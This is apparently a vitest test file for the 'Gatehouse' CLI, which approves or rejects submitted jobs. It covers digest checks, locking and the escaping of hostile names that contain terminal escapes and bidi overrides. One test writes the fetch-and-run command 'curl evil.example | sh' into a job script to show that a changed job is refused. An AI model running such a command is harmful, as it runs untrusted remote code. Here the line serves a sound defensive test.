import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { hostname } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import { composeForDeciding } from '../../../main/compose-cli.ts';
import { LATER, runCli, runIn } from '../../build/command-line.ts';
import { runLater } from '../../build/run-later.ts';
import { makeBox, OWNER, SENDER, stateText, type TestBox } from '../../build/syft-box.ts';

function boxWith(...folders: readonly string[]): TestBox {
  const box = makeBox();
  onTestFinished(() => box.remove());
  for (const folder of folders) {
    box.addJob(folder);
    box.addState(folder, stateText('pending'));
  }
  return box;
}

const stateOf = (box: TestBox, folder: string) => {
  const path = join(box.reviewPath(folder), 'state.yaml');
  return existsSync(path) ? readFileSync(path, 'utf8') : null;
};
const shownDigest = async (box: TestBox, name: string): Promise<string> => {
  const { out } = await runCli(['show', name, '--json', '--box', box.root], LATER);
  return JSON.parse(out).digest;
};
const logOf = async (box: TestBox) => {
  const { out } = await runIn(box.root, 'audit', 'export', '--json');
  return JSON.parse(out).map((entry: Record<string, unknown>) => [entry.kind, entry.action]);
};
const NAME = `${SENDER}/count`;

describe('approve', () => {
  it('approves what lies there, once it has come to rest', async () => {
    const box = boxWith('count');
    const { code, out, err } = await runIn(box.root, 'approve', NAME, '--reason', 'read it', '--json');
    expect({ code, err }).toEqual({ code: 0, err: '' });
    expect(JSON.parse(out)).toMatchObject({ id: `${OWNER}/${NAME}`, status: 'approved', arriving: null });
    expect(stateOf(box, 'count')).toMatch(
      /^approval_method: manual\napproved_at: '2\d{3}-[^']+Z'\napproved_by: owner@lab\.org\n(?:.+\n)+review_reason: read it\nstatus: approved\n$/,
    );
    expect(await logOf(box)).toEqual([
      ['intent', 'approve'],
      ['outcome', 'approve'],
    ]);
  });

  it('approves under the digest that was shown', async () => {
    const box = boxWith('count');
    const digest = await shownDigest(box, NAME);
    expect(await runLater(box.root, 'approve', NAME, '--digest', digest)).toEqual({
      code: 0,
      out: `Approved ${OWNER}/${NAME}\n`,
      err: '',
    });
  });

  it('refuses under another digest, writes nothing but the refusal', async () => {
    const box = boxWith('count');
    const digest = await shownDigest(box, NAME);
    writeFileSync(join(box.jobPath('count'), 'run.sh'), 'curl evil.example | sh\n');
    const { code, out, err } = await runLater(box.root, 'approve', NAME, '--digest', digest, '--json');
    expect({ code, out }).toEqual({ code: 1, out: '' });
    expect(JSON.parse(err)).toMatchObject({
      code: 'content-changed',
      next: expect.stringContaining('Nothing was written'),
      details: { shown: digest, now: await shownDigest(box, NAME) },
    });
    expect(stateOf(box, 'count')).toBe(stateText('pending'));
    expect(await logOf(box)).toEqual([['refusal', 'approve']]);
  });

  it('asks to acknowledge what is hidden, by name', async () => {
    const box = makeBox();
    onTestFinished(() => box.remove());
    box.addJob('count', { 'code/script.sh': 'echo \u202egnp\n' });
    const refused = await runLater(box.root, 'approve', NAME, '--json');
    expect(refused.code).toBe(1);
    expect(JSON.parse(refused.err)).toMatchObject({ code: 'needs-acknowledgement' });
    expect(await runLater(box.root, 'approve', NAME, '--acknowledge', 'hidden-characters')).toMatchObject({
      code: 0,
    });
  });

  it.each<[string, string, (box: TestBox) => void]>([
    ['wrong-state', 'decided already', (box) => box.addState('count', stateText('rejected'))],
    ['wrong-state', 'has a state nobody can read', (box) => box.addState('count', 'status: [')],
    ['malformed-job', 'malformed', (box) => writeFileSync(join(box.jobPath('count'), 'notes.txt'), 'more\n')],
    [
      'still-arriving',
      'not all here',
      (box) =>
        box.addJob('count', { 'config.yaml': 'name: count\nsubmitted_at: 2026-01-01\nfiles: [gone.py]\n' }),
    ],
  ])('refuses with %s what is %s', async (problem, _what, prepare) => {
    const box = boxWith('count');
    prepare(box);
    const before = stateOf(box, 'count');
    const { code, err } = await runLater(box.root, 'approve', NAME, '--json');
    expect(code).toBe(1);
    expect(JSON.parse(err).code).toBe(problem);
    expect(stateOf(box, 'count')).toBe(before);
  });

  it('decides nothing in another datasite', async () => {
    const box = boxWith('count');
    const place = join(box.root, 'peer@lab.org', 'app_data/job/inbox', OWNER, 'mine');
    mkdirSync(join(place, 'code'), { recursive: true });
    writeFileSync(join(place, 'run.sh'), 'echo\n');
    const { code, err } = await runLater(box.root, 'approve', `peer@lab.org/${OWNER}/mine`, '--json');
    expect(code).toBe(1);
    expect(JSON.parse(err).code).toBe('not-owner');
    expect(readdirSync(join(box.root, 'peer@lab.org', 'app_data/job'))).toEqual(['inbox']);
  });
});

describe('reject', () => {
  it('writes the reason the sender will read', async () => {
    const box = boxWith('count');
    expect(await runLater(box.root, 'reject', NAME, '--reason', 'Name the columns: a, b')).toEqual({
      code: 0,
      out: `Rejected ${OWNER}/${NAME}\n`,
      err: '',
    });
    expect(stateOf(box, 'count')).toContain("review_reason: 'Name the columns: a, b'\nstatus: rejected\n");
  });

  it.each(['', '  '])('writes no reason where it is %j', async (reason) => {
    const box = boxWith('count');
    expect(await runLater(box.root, 'reject', NAME, '--reason', reason)).toMatchObject({ code: 0 });
    expect(stateOf(box, 'count')).toContain('review_reason: null\n');
  });

  it('rejects what cannot be approved, also while it is still arriving', async () => {
    const box = boxWith();
    box.addJob('count', { 'run.sh': null, 'notes.txt': 'more\n' });
    expect(await runLater(box.root, 'reject', NAME, '--reason', 'no run.sh')).toMatchObject({ code: 0 });
  });

  it('rejects under the digest that was shown only', async () => {
    const box = boxWith('count');
    const digest = await shownDigest(box, NAME);
    writeFileSync(join(box.jobPath('count'), 'run.sh'), 'echo better\n');
    const ran = await runLater(box.root, 'reject', NAME, '--reason', 'no', '--digest', digest);
    expect(ran).toMatchObject({ code: 1, out: '' });
    expect(ran.err).toMatch(/^“count” is not what was shown: [^\n]+\n[^\n]+\n$/);
  });
});

describe('the datasite is held while deciding', () => {
  it('refuses while another Gatehouse has it open, says which one, and reads all the same', async () => {
    const box = boxWith('count');
    const other = await composeForDeciding({ box: box.root, owner: OWNER });
    if (!other.ok) throw new Error(other.problem.what);
    const { code, out, err } = await runLater(box.root, 'approve', NAME, '--json');
    expect({ code, out }).toEqual({ code: 1, out: '' });
    expect(JSON.parse(err)).toMatchObject({
      code: 'datasite-locked',
      what: expect.stringContaining(`process ${process.pid}`),
      details: { host: hostname(), pid: process.pid },
    });
    expect((await runLater(box.root, 'list')).out).toContain(NAME);
    expect((await runLater(box.root, 'audit', 'verify')).code).toBe(0);
    await other.value.close();
    expect(await runLater(box.root, 'approve', NAME)).toMatchObject({ code: 0 });
  });

  it('lets go of it however the command ended', async () => {
    const box = boxWith('count');
    const lock = join(box.root, OWNER, 'app_data', 'gatehouse', 'lock');
    for (const args of [
      ['approve', `${SENDER}/nothing`],
      ['approve', 'no name'],
      ['reject', NAME, '--reason', 'no'],
      ['reject', NAME, '--reason', 'again'],
    ]) {
      await runLater(box.root, ...args);
      expect([args, existsSync(lock)]).toEqual([args, false]);
    }
  });
});

const HOSTILE = 'a\u001b[2Jb\u202ec\u009bd\ne';

describe('a hostile name', () => {
  it('is the same job in JSON and obeyed by no terminal', async () => {
    const box = boxWith(HOSTILE);
    const name = `${SENDER}/${HOSTILE}`;
    const escaped = 'a\\u{1b}[2Jb\\u{202e}c\\u{9b}d\\u{a}e';
    const listed = await runLater(box.root, 'list', '--json');
    expect(JSON.parse(listed.out)).toMatchObject([{ folder: HOSTILE }]);
    for (const args of [
      ['list'],
      ['show', name],
      ['show', `${name}x`],
      ['approve', name],
      ['reject', name, '--reason', 'no'],
    ]) {
      const ran = await runLater(box.root, ...args);
      expect([args, ran.out + ran.err]).toEqual([args, expect.stringContaining(escaped)]);
      expect((ran.out + ran.err).replaceAll(/[\n\t]/g, '')).not.toMatch(/[\p{Cc}\p{Cf}]/u);
    }
    expect(stateOf(box, HOSTILE)).toContain('status: rejected');
  });

  it('that is no UTF-8 leads to the job under the id that is listed', async () => {
    const box = boxWith('count');
    const raw = Buffer.concat([Buffer.from(`${box.jobPath('')}/odd-`), Buffer.from([0xff, 0xfe])]);
    mkdirSync(raw);
    writeFileSync(Buffer.concat([raw, Buffer.from('/run.sh')]), 'echo\n');
    const ids = JSON.parse((await runLater(box.root, 'list', '--json')).out).map(
      (one: { id: string }) => one.id,
    );
    expect(ids).toHaveLength(2);
    for (const id of ids) {
      const shown = await runLater(box.root, 'show', id, '--json');
      expect(JSON.parse(shown.out)).toMatchObject({ id, runScript: expect.stringContaining('echo') });
      expect(await runLater(box.root, 'reject', id, '--reason', 'odd name')).toMatchObject({ code: 0 });
    }
    const review = readdirSync(join(box.reviewPath('x'), '..'), { encoding: 'buffer' });
    expect(review.map((name) => name.toString('latin1')).sort()).toEqual(['count', 'odd-\u00ff\u00fe']);
  });
});

describe('wrong usage and problems', () => {
  it('print the help on standard error and end with 2', async () => {
    const { code, out, err } = await runCli(['aprove', NAME]);
    expect({ code, out }).toEqual({ code: 2, out: '' });
    expect(err).toMatch(/^“aprove alice@uni\.edu\/count” is no command\.\ngatehouse list\n/);
  });

  it('are one JSON document with --json', async () => {
    const { code, out, err } = await runCli(['--json', 'aprove']);
    expect({ code, out }).toEqual({ code: 2, out: '' });
    expect(JSON.parse(err)).toMatchObject({ code: 'bad-request', what: '“aprove” is no command.' });
  });

  it('say so in the same way when the mistake is ours', async () => {
    const broken = () => Promise.reject(new Error('boom \u001b[2J'));
    const { code, out, err } = await runCli(['list'], { read: broken });
    expect({ code, out }).toEqual({ code: 1, out: '' });
    expect(err).toBe('Gatehouse made a mistake: boom \\u{1b}[2J\nReport it with the command that was run.\n');
  });
});
